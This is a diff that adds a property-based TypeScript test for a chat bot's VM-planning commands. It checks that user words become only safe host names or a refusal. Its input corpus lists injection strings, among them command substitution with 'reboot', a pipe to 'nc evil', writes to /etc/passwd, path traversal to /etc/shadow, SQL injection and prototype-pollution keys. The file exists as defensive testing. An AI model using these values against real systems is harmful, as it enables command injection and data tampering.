@@ -1,0 +1,113 @@
+import * as fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { commands } from '../../commands/index.ts';
+import { type Asking, type Planning, Refusal } from '../../src/bot/command.ts';
+import type { Office } from '../../src/bot/office.ts';
+import { parse } from '../../src/bot/parse.ts';
+import { known } from '../../src/engine/look.ts';
+import type { Wanted } from '../../src/engine/plan.ts';
+import { actions } from '../../src/farm/actions.ts';
+import { state } from '../bot/survey/state.ts';
+import { exampleFarm } from '../farm/farms.ts';
+
+/** Where a person's words become the name of something on a host. */
+const planning = commands.filter((command): command is Planning => command.kind === 'plan' && command.name !== 'undo');
+
+const corpus = [
+  '$(reboot)',
+  '`reboot`',
+  '; reboot',
+  '&& reboot',
+  '| nc evil 1',
+  '> /etc/passwd',
+  '../../etc/shadow',
+  '/dev/sda',
+  '--force',
+  '-rf',
+  '*',
+  '?',
+  '~root',
+  '$HOME',
+  '${IFS}',
+  '%0a',
+  '\\n',
+  '\u0000',
+  "'; DROP TABLE events; --",
+  '__proto__',
+  'constructor',
+  'gallifrey dev',
+  'gallifrey.xivo.vm.farm.',
+  '10.10.60.5',
+  'Ⅷ',
+  'ɡallifrey',
+  'gallifrey\u200b',
+  '{name}',
+  '<@U01>',
+  '#xivo',
+  'x'.repeat(64),
+  'x'.repeat(5000),
+  '',
+];
+
+/** A plan made from these words, or the refusal of them. Anything else is thrown on. */
+async function asked(command: Planning, args: readonly string[]): Promise<Wanted | Refusal> {
+  const farm = { ...exampleFarm, vms: new Map() };
+  const where = { platform: 'irc', channel: '#xivo', private: false };
+  const asking: Asking = {
+    person: { name: 'loic', roles: [] },
+    speaker: { platform: 'irc', nick: 'loic', account: 'loic' },
+    where,
+    identify: '',
+    args,
+    farm,
+    look: async () => state(),
+    pending: async () => [],
+    office: {} as Office,
+  };
+  return command.plan(asking).catch((error) => {
+    if (error instanceof Refusal) return error;
+    throw error;
+  });
+}
+
+function expectHarmless(wanted: Wanted): void {
+  for (const step of wanted.steps) known(actions, step);
+  for (const subject of wanted.subjects) expect(subject).toMatch(/^[a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?$/);
+  expect(wanted.command).toMatch(/^[a-z0-9 -]+$/i);
+}
+
+describe.each(planning.map((command) => ({ name: command.name, command })))('!$name', ({ command }) => {
+  test.each(corpus)('does not take %j for anything', async (word) => {
+    for (const args of [
+      [word, 'dev'],
+      ['gallifrey', word],
+    ]) {
+      const result = await asked(command, args);
+      if (!(result instanceof Refusal)) expectHarmless(result);
+      // No command has a second word that any of these is right for.
+      else expect(result.lines.length).toBeGreaterThan(0);
+    }
+    expect(await asked(command, [word, 'dev'])).toBeInstanceOf(Refusal);
+  });
+
+  test('makes of any words whatever a plan of plain names, or a refusal', async () => {
+    const word = fc.oneof(
+      fc.string({ unit: 'binary' }),
+      fc.constantFrom('gallifrey', 'dev', '1G'),
+      fc.stringMatching(/^[a-z0-9-]{1,70}$/),
+    );
+    await fc.assert(
+      fc.asyncProperty(word, word, async (one, other) => {
+        const result = await asked(command, [one, other]);
+        if (!(result instanceof Refusal)) expectHarmless(result);
+      }),
+    );
+  });
+});
+
+test('what is typed comes to a command as the words it was typed as, or not at all', () => {
+  for (const text of corpus) {
+    const parsed = parse(`status "${text}"`);
+    if (parsed.is === 'command') expect(parsed.args.join(' ')).not.toMatch(/[\p{Cc}\p{Cf}]/u);
+  }
+});
